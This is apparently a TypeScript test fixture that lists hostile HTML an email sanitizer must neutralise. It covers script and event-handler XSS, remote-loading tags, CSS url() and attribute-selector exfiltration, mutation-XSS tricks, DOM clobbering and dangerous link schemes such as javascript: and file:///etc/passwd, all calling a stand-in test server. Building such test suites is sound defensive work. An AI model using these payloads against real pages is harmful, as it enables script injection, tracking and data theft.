/**
 * HTML that mails have tried, or could: nothing of it may run, load or navigate. `at` is a server that must see nothing,
 * and `run` a script that it would see, too.
 */
export interface HostileHtml {
  readonly name: string
  readonly html: string
}

const base64 = (text: string) => Buffer.from(text).toString('base64')

export function hostileHtml(at: string): readonly HostileHtml[] {
  const run = `fetch('${at}/ran');top.document.title='owned';alert(1)`
  const far = at.replace(/^http:/, '')
  return [
    ...[
      `<script>${run}</script><script src="${at}/script"></script><SCRIPT/SRC=${at}/script2></SCRIPT>`,
      `<script type="module">import '${at}/module'</script><script\n>${run}</script\n>`,
      `<svg><script>${run}</script><script href="${at}/svg-script" xlink:href="${at}/svg-script2"/></svg>`,
      `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s><set attributeName="href" to="javascript:${run}"/></svg>`,
      `<img src=x onerror="${run}"><img/src=x/onerror=${run}><img src=x onerror\n=\n"${run}"><img src="x\` onerror=${run}">`,
      `<img \0src=x o\0nerror="${run}"><im\0g src=x onerror="${run}"><IMG """><SCRIPT>${run}</SCRIPT>">`,
      `<details open ontoggle="${run}">x</details><input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
      `<video autoplay onplay="${run}" oncanplay="${run}"><source onerror="${run}" src="${at}/video"></video><audio src="${at}/audio" onerror="${run}">`,
      `<style>@keyframes k{}</style><x style="animation-name:k" onanimationstart="${run}" ontransitionend="${run}" onpointerrawupdate="${run}">x</x>`,
      `<marquee onstart="${run}">m</marquee><body onload="${run}" onpageshow="${run}" onhashchange="${run}" background="${at}/body">`,
      `<div contenteditable onbeforeinput="${run}" tabindex=1 autofocus onfocus="${run}" popover ontoggle="${run}">e</div>`,
    ].map((html, place) => ({ name: `script ${String(place)}`, html })),
    ...[
      `<img src="${at}/img" srcset="${at}/1x 1x, ${at}/2x 2x"><img src="${far}/schemeless"><img src="\\\\${at.slice(7)}/backslash"><img src=" \t${at}/blank"><image src="${at}/image">`,
      `<picture><source srcset="${at}/picture"><img src="${at}/in-picture" lowsrc="${at}/low" dynsrc="${at}/dyn" longdesc="${at}/long" usemap="${at}#m"></picture>`,
      `<table background="${at}/table"><tr background="${at}/tr"><td background="${at}/td">x</td></tr></table>`,
      `<video poster="${at}/poster" src="${at}/video"><track src="${at}/track" default></video><bgsound src="${at}/bgsound"><embed src="${at}/embed"><object data="${at}/object"><param name=movie value="${at}/param"></object><applet archive="${at}/jar" code="${at}/class">`,
      `<iframe src="${at}/iframe"></iframe><iframe srcdoc="<script>${run}</script><img src='${at}/srcdoc'>"></iframe><iframe src="data:text/html;base64,${base64(`<img src="${at}/data-frame">`)}"></iframe><frameset><frame src="${at}/frame"></frameset><fencedframe></fencedframe><portal src="${at}/portal"></portal>`,
      `<object type="text/html" data="data:text/html;base64,${base64(`<script>${run}</script>`)}"></object><embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${at}/svg-data"/></svg>`)}"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${at}/svg-img'/></svg>">`,
      ...[
        'stylesheet',
        'preload" as="image',
        'prefetch',
        'prerender',
        'dns-prefetch',
        'preconnect',
        'modulepreload',
        'icon',
        'manifest',
        'import',
        'search',
        'alternate stylesheet',
      ].map((rel) => `<link rel="${rel}" href="${at}/link-${rel.slice(0, 4)}">`),
      `<meta http-equiv="refresh" content="0;url=${at}/refresh"><meta http-equiv="Refresh" content="0;${at}/refresh2"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b"><base href="${at}/" target="_top"><img src="relative"><a href="relative">r</a>`,
      `<svg><image href="${at}/svg-image" xlink:href="${at}/svg-xlink"/><use href="${at}/use#x"/><feImage href="${at}/fe"/><rect fill="url(${at}/fill#a)" filter="url(${at}/filter#a)" mask="url(${at}/mask#a)" clip-path="url(${at}/clip#a)" style="fill:url(${at}/fill2#a)"/><style>@import "${at}/svg-import"; * { background: url(${at}/svg-style) }</style><foreignObject><img src="${at}/foreign"></foreignObject></svg>`,
      `<math href="${at}/math"><mglyph src="${at}/glyph"/><semantics><annotation-xml encoding="text/html"><img src="${at}/annotation" onerror="${run}"></annotation-xml></semantics><maction actiontype="statusline#${at}" xlink:href="javascript:${run}">c</maction></math>`,
      `<form action="${at}/form" method="post" id="f" target="_top"><input name="password" autofocus><input type="image" src="${at}/input"><button formaction="${at}/button">Log in</button></form><isindex action="${at}/isindex" type="submit"><button form="f">b</button>`,
      `<a href="https://bank.example/" ping="${at}/ping" download target="_blank">ping</a><map name="m"><area href="javascript:${run}" shape="default" coords="0,0,9,9"></map><div itemscope itemtype="${at}/item">i</div><q cite="${at}/cite">q</q><del cite="${at}/del">d</del>`,
      `<template><img src="${at}/template" onerror="${run}"></template><div><template shadowrootmode="open"><style>@import "${at}/shadow"</style><img src="${at}/shadow-img"></template></div><slot onslotchange="${run}"></slot><dialog open><form method=dialog></form></dialog>`,
      `<html manifest="${at}/manifest"><head profile="${at}/profile"></head><?xml-stylesheet href="${at}/xml-style"?><!DOCTYPE x SYSTEM "${at}/dtd"><!--[if IE]><img src="${at}/ie"><![endif]--></html>`,
    ].map((html, place) => ({ name: `loading ${String(place)}`, html })),
    {
      name: 'css in attributes',
      html: [
        `background:url(${at}/a)`,
        `background-image:URL( '${at}/b' )`,
        `background:u\\72l(${at}/c)`,
        `background:\\000075rl(${at}/d)`,
        `background:u\\\nrl(${at}/e)`,
        `background:/**/url/**/(${at}/f);background:url(/**/${at}/f2)`,
        `list-style-image:url(${at}/g)`,
        `content:url(${at}/h)`,
        `cursor:url(${at}/i),auto`,
        `border-image:url(${at}/j) 1`,
        `mask-image:url(${at}/k);-webkit-mask:url(${at}/k2)`,
        `filter:url(${at}/l#a)`,
        `shape-outside:url(${at}/m);float:left`,
        `background:image-set("${at}/n" 1x);background:-webkit-image-set(url(${at}/n2) 1x)`,
        `background:cross-fade(url(${at}/o),url(${at}/o2),50%);background:-webkit-cross-fade(url(${at}/o3),url(${at}/o4),.5)`,
        `--x:url(${at}/p);background:var(--x)`,
        `background:image("${at}/q");background:src("${at}/q2")`,
        `width:expression(${run});-moz-binding:url(${at}/r#x);behavior:url(${at}/r2)`,
        `background:url(javascript:${run})`,
        `background:url("${at}/unterminated`,
        `offset-path:url(${at}/s#a);clip-path:url(${at}/s2#a);marker:url(${at}/s3#a)`,
        `background:url(\\\\${at.slice(7)}/t)`,
        `background:url(${at.replace('http:', 'ht\\74p:')}/u)`,
        `background:url(&#39;${at}/v&#39;)`,
      ]
        .map((style) => `<div style="${style.replaceAll('"', '&quot;')}">styled</div>`)
        .join('\n'),
    },
    ...[
      `@import url(${at}/import); @import "${at}/import2"; @\\69mport '${at}/import3'; @charset "utf-8"; @namespace svg url(${at}/ns);`,
      `@font-face { font-family: e; src: url(${at}/font) format("woff"), local("x") } * { font-family: e }`,
      `a:visited { background: url(${at}/visited) } a:hover, *:hover { background: url(${at}/hover) } input[value^="a"] { background: url(${at}/exfiltrate) } ::selection { background: url(${at}/selection) }`,
      `@media all { @supports (display: block) { @layer x { body { background: url(${at}/nested) } } } } @page { background: url(${at}/page) } @container (width > 1px) { p { background: url(${at}/container) } }`,
      `p { background: url(${at}/one) } /* </style><img src=x onerror="${run}"> */ p::before { content: "</style><script>${run}</script>" }`,
      `<!-- p { background: url(${at}/html-comment) } --> p{background:url(${at}/not-closed`,
      `@property --a { syntax: "<image>"; inherits: true; initial-value: url(${at}/property) } p { background: var(--a) } @document url(${at}) { p { color: red } } p { background: paint(x) }`,
      `p{};@import/**/url(${at}/late);p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${at}/css-svg'/></svg>")}`,
    ].map((css, place) => ({ name: `sheet ${String(place)}`, html: `<style>${css}</style><p>styled</p>` })),
    ...[
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
      `<math><mtext><table><mglyph><style><math><img src=1 onerror=${run}></style></mglyph></table></mtext></math>`,
      `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
      `<svg><style><g title="</style><img src=${at}/mxss onerror=${run}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=${at}/mxss onerror=${run}></style></mglyph></form>`,
      `<noscript><p title="</noscript><img src=${at}/mxss onerror=${run}>"></noscript>`,
      `<math><annotation-xml encoding="text/html"><style><img src=${at}/mxss onerror=${run}></style></annotation-xml></math>`,
      `<svg><foreignObject><math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src=${at}/mxss>">`,
      `<xmp><p title="</xmp><img src=${at}/mxss onerror=${run}>"></xmp><noembed><p title="</noembed><img src=${at}/mxss onerror=${run}>"></noembed><noframes><p title="</noframes><img src=${at}/mxss onerror=${run}>"></noframes>`,
      `<listing>&lt;img src=${at}/mxss onerror=${run}&gt;</listing><textarea><p title="</textarea><img src=${at}/mxss onerror=${run}>"></textarea><title><p title="</title><img src=${at}/mxss onerror=${run}>"></title>`,
      `<!--><img src=${at}/mxss onerror=${run}>--><!-- --!><img src=${at}/mxss onerror=${run}> --><!---><img src=${at}/mxss onerror=${run}>-->`,
      `<svg><![CDATA[><img src=${at}/mxss onerror=${run}>]]></svg><svg><desc><![CDATA[</desc><img src=${at}/mxss onerror=${run}>]]></desc></svg>`,
      `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='${at}/mxss' onerror='${run}'>">`,
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=${at}/mxss onerror=${run}>">`,
      `<table><caption><svg><desc><table><caption></caption></table></desc><style><a title="</style></svg><img src=${at}/mxss onerror=${run}>"></a></style></svg></caption></table>`,
      `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=${at}/mxss onerror=${run}>"></a></style></svg>`,
      `<a id="a" href="javascript:1"><a id="a" name="username" href="x"><form id="x"><input id="attributes"><input name="nodeName"><input name="childNodes"></form><img name="body"><img name="getElementById"><img id="cookie" name="implementation">`,
      `<p is="x-y" slot="a" part="b" nonce="c" xmlns="http://www.w3.org/1999/xhtml" xml:base="${at}/">x</p><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${run}">y</a>`,
    ].map((html, place) => ({ name: `mutation ${String(place)}`, html })),
    { name: 'never ends', html: `<plaintext><img src=${at}/plain onerror=${run}>` },
  ]
}

/** Links that lead to a script, in all the ways to write it. */
export const scriptLinks: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#9;script:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x1;javascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://a.example/1',
  'file:///etc/passwd',
  'ftp://a.example/',
  'about:blank',
  'view-source:http://a.example/',
  'intent://x#Intent;end',
  '//schemeless.example/',
]
